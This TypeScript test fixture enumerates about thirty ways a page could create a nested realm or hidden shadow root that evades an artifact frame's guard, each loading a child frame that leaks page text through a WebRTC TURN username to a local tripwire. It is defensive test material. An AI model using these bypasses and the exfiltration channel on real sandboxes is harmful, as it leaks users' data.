/**
 * Every way we know for a page to get a nested realm (a document with its own
 * globals, RTCPeerConnection included) into the artifact frame, or a shadow
 * root the frame's realm guard would not see: one entry per door, so a
 * failing spec names the door.
 *
 * Each door's `script` runs in an artifact page (see realmDoorPage) with:
 *   CHILD      a child document whose script opens an RTCPeerConnection with
 *              a TURN server (UDP) and a STUN server on the tripwire's port,
 *              the page's text in the TURN username: the reported attack;
 *   TEXT       that page text;
 *   attr(s)    s escaped for a double-quoted attribute;
 *   mount()    a fresh <div> appended to <body>;
 *   srcdocFrame()  a new <iframe srcdoc=CHILD>, not yet inserted;
 *   note(k, v) records what an attempt returned, for the spec's annotations.
 * The page posts `{ probe: 'realm-door', door, notes }` once the script has
 * returned (or thrown), so a spec knows the payload ran.
 */
export interface RealmDoor {
  script: string;
}

/** `<div id="h"><template shadowrootmode="MODE">INNER</template></div>` as a JS expression. */
const declarative = (mode: 'open' | 'closed', inner: string) =>
  `'<div id="h"><template shadowrootmode="${mode}">' + ${inner} + '</template></div>'`;
const srcdocMarkup = `'<iframe srcdoc="' + attr(CHILD) + '"></iframe>'`;
/** The same frame in an XSLT stylesheet: '<' escaped, and braces doubled (they would start attribute value templates). */
const srcdocXml = `'<iframe srcdoc="' + attr(CHILD).replace(/</g, '&lt;').replace(/[{}]/g, '$&$&') + '"></iframe>'`;

export const REALM_DOORS: Record<string, RealmDoor> = {
  'the reported attack: Document.prototype.open/write/close, a declarative shadow root, <iframe srcdoc>': {
    script: `
      Document.prototype.open.call(document);
      Document.prototype.write.call(document, '<p id="written">' + TEXT + '</p>' + ${declarative('open', srcdocMarkup)});
      Document.prototype.close.call(document);`,
  },
  'Document.prototype.write alone (an implicit open), closed declarative root': {
    script: `Document.prototype.write.call(document, ${declarative('closed', srcdocMarkup)});`,
  },
  'Document.prototype.writeln, declarative root': {
    script: `Document.prototype.writeln.call(document, ${declarative('open', srcdocMarkup)});`,
  },
  'document.write, declarative root': {
    script: `document.write(${declarative('closed', srcdocMarkup)});`,
  },
  'Element.prototype.setHTMLUnsafe, declarative root': {
    script: `Element.prototype.setHTMLUnsafe.call(mount(), ${declarative('closed', srcdocMarkup)});`,
  },
  'ShadowRoot.prototype.setHTMLUnsafe, declarative root inside a shadow root': {
    script: `ShadowRoot.prototype.setHTMLUnsafe.call(mount().attachShadow({ mode: 'closed' }), ${declarative('closed', srcdocMarkup)});`,
  },
  'Document.parseHTMLUnsafe, its host adopted into the page': {
    script: `
      const parsed = Document.parseHTMLUnsafe(${declarative('closed', srcdocMarkup)});
      mount().appendChild(document.adoptNode(parsed.getElementById('h')));`,
  },
  'Element.prototype.setHTML (Sanitizer), a frame appended into its open declarative root': {
    script: `
      const host = mount();
      host.setHTML(${declarative('open', "'<p>sanitized</p>'")}, { sanitizer: {} });
      note('root', String(host.firstChild.shadowRoot));
      host.firstChild.shadowRoot.appendChild(srcdocFrame());`,
  },
  'Element.prototype.setHTML (Sanitizer), a closed declarative root reached by a custom element': {
    script: `
      const frame = srcdocFrame();
      customElements.define('x-reach', class extends HTMLElement {
        connectedCallback() { note('reached', String(this.getRootNode())); this.getRootNode().appendChild(frame); }
      });
      mount().setHTML(${declarative('closed', "'<x-reach></x-reach>'")}, {
        sanitizer: { elements: ['div', 'template', 'x-reach'], attributes: ['id', 'shadowrootmode'] },
      });`,
  },
  'ShadowRoot.prototype.setHTML (Sanitizer), a frame appended into the nested open root': {
    script: `
      const root = mount().attachShadow({ mode: 'open' });
      root.setHTML(${declarative('open', "'<p>sanitized</p>'")}, { sanitizer: {} });
      root.firstChild.shadowRoot.appendChild(srcdocFrame());`,
  },
  'Document.parseHTML (Sanitizer), host adopted, a frame appended into its open root': {
    script: `
      const parsed = Document.parseHTML(${declarative('open', "'<p>sanitized</p>'")}, { sanitizer: {} });
      const host = mount().appendChild(document.adoptNode(parsed.getElementById('h')));
      host.shadowRoot.appendChild(srcdocFrame());`,
  },
  'the innerHTML setter of Element.prototype': {
    script: `Object.getOwnPropertyDescriptor(Element.prototype, 'innerHTML').set.call(mount(), ${srcdocMarkup});`,
  },
  'the outerHTML setter': {
    script: `Object.getOwnPropertyDescriptor(Element.prototype, 'outerHTML').set.call(mount(), ${srcdocMarkup});`,
  },
  'the innerHTML setter of ShadowRoot.prototype, in a closed root': {
    script: `Object.getOwnPropertyDescriptor(ShadowRoot.prototype, 'innerHTML').set.call(mount().attachShadow({ mode: 'closed' }), ${srcdocMarkup});`,
  },
  'insertAdjacentHTML': {
    script: `Element.prototype.insertAdjacentHTML.call(mount(), 'beforeend', ${srcdocMarkup});`,
  },
  'Range.prototype.createContextualFragment': {
    script: `mount().appendChild(Range.prototype.createContextualFragment.call(document.createRange(), ${srcdocMarkup}));`,
  },
  'DOMParser, the frame adopted into the page': {
    script: `
      const parsed = new DOMParser().parseFromString(${srcdocMarkup}, 'text/html');
      mount().appendChild(document.adoptNode(parsed.querySelector('iframe')));`,
  },
  'XSLTProcessor.transformToDocument, a declarative root in its output': {
    script: `
      const xsl = new DOMParser().parseFromString(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/>' +
        '<xsl:template match="/"><html><body>' + ${declarative('closed', srcdocXml)} +
        '</body></html></xsl:template></xsl:stylesheet>', 'application/xml');
      const processor = new XSLTProcessor();
      processor.importStylesheet(xsl);
      const out = processor.transformToDocument(new DOMParser().parseFromString('<x/>', 'application/xml'));
      mount().appendChild(document.adoptNode(out.getElementById('h')));`,
  },
  'XSLTProcessor.transformToFragment': {
    script: `
      const xsl = new DOMParser().parseFromString(
        '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:output method="html"/>' +
        '<xsl:template match="/">' + ${srcdocXml} + '</xsl:template></xsl:stylesheet>', 'application/xml');
      const processor = new XSLTProcessor();
      processor.importStylesheet(xsl);
      mount().appendChild(processor.transformToFragment(new DOMParser().parseFromString('<x/>', 'application/xml'), document));`,
  },
  'attachShadow (closed), a frame made by createElement': {
    script: `mount().attachShadow({ mode: 'closed' }).appendChild(srcdocFrame());`,
  },
  'a clonable shadow root, cloned into the page': {
    script: `
      const host = document.createElement('div');
      host.attachShadow({ mode: 'closed', clonable: true }).appendChild(srcdocFrame());
      mount().appendChild(host.cloneNode(true));`,
  },
  'template content holding a frame, imported into the page': {
    script: `
      const t = document.createElement('template');
      t.innerHTML = ${srcdocMarkup};
      mount().appendChild(document.importNode(t.content, true));`,
  },
  '<iframe srcdoc> made by createElement': {
    script: `mount().appendChild(srcdocFrame());`,
  },
  '<iframe src="javascript:…">': {
    script: `
      const f = document.createElement('iframe');
      f.src = 'javascript:' + encodeURIComponent(JSON.stringify(CHILD));
      mount().appendChild(f);`,
  },
  'an about:blank frame reached synchronously (contentWindow, frames[0], window[0]), then given a srcdoc': {
    script: `
      const f = document.createElement('iframe');
      mount().appendChild(f);
      const config = { iceServers: [{ urls: 'stun:' + PORT_HOST }] };
      for (const [name, reach] of [['contentWindow', () => f.contentWindow], ['frames[0]', () => frames[0]], ['window[0]', () => window[0]]]) {
        try { note(name, String(new (reach().RTCPeerConnection)(config))); } catch (e) { note(name, 'threw ' + e.name); }
      }
      f.srcdoc = CHILD;`,
  },
  'a frame nested in a frame': {
    script: `
      const f = document.createElement('iframe');
      f.srcdoc = '<iframe srcdoc="' + attr(CHILD) + '"></iframe>';
      mount().appendChild(f);`,
  },
  'document.execCommand("insertHTML") into an editable element': {
    script: `
      const el = mount();
      el.contentEditable = 'true';
      el.focus();
      note('inserted', String(document.execCommand('insertHTML', false, ${srcdocMarkup})));`,
  },
  'an HTML frame inside SVG <foreignObject>': {
    script: `
      mount().innerHTML = '<svg width="10" height="10"><foreignObject width="10" height="10">' + ${srcdocMarkup} + '</foreignObject></svg>';`,
  },
  'a frame inserted after a microtask was queued (the observer runs later in the same checkpoint)': {
    script: `
      Promise.resolve().then(() => { note('microtask', 'ran before the guard'); });
      mount().appendChild(srcdocFrame());`,
  },
};

/** A string literal that can sit inside an inline <script>. */
function inlineJs(value: string): string {
  return JSON.stringify(value).replace(/</g, '\\u003c');
}

/** The text the attack carries out in the TURN username. */
export const PAGE_TEXT = 'Q3-revenue-4200000';

/** The child document of every door: WebRTC to the tripwire's UDP port with the page text in the TURN username. */
export function childDocument(port: number, text: string = PAGE_TEXT): string {
  const config = JSON.stringify({
    iceServers: [
      { urls: `turn:127.0.0.1:${port}?transport=udp`, username: text, credential: 'x' },
      { urls: `stun:127.0.0.1:${port}` },
    ],
  });
  return (
    `<script>const pc = new RTCPeerConnection(${config}); pc.createDataChannel('x');` +
    ` pc.createOffer().then((offer) => pc.setLocalDescription(offer));</` +
    'script>'
  );
}

/** An artifact page that runs `door` against a tripwire on `port`. */
export function realmDoorPage(name: string, door: RealmDoor, port: number): string {
  return `<!doctype html>
<html><head><meta charset="utf-8"><title>Realm door</title></head><body>
<p id="secret">${PAGE_TEXT}</p>
<script>
(() => {
  const TEXT = document.getElementById('secret').textContent;
  const CHILD = ${inlineJs(childDocument(port))};
  const PORT_HOST = ${inlineJs(`127.0.0.1:${port}`)};
  const notes = {};
  const note = (k, v) => { notes[k] = String(v).slice(0, 120); };
  const attr = (s) => s.replace(/&/g, '&amp;').replace(/"/g, '&quot;');
  const mount = () => document.body.appendChild(document.createElement('div'));
  const srcdocFrame = () => { const f = document.createElement('iframe'); f.srcdoc = CHILD; return f; };
  try {
    ${door.script}
    note('script', 'returned');
  } catch (e) {
    note('script', 'threw ' + (e && e.name) + ': ' + (e && e.message));
  }
  parent.postMessage({ probe: 'realm-door', door: ${inlineJs(name)}, notes }, '*');
})();
</script>
</body></html>`;
}
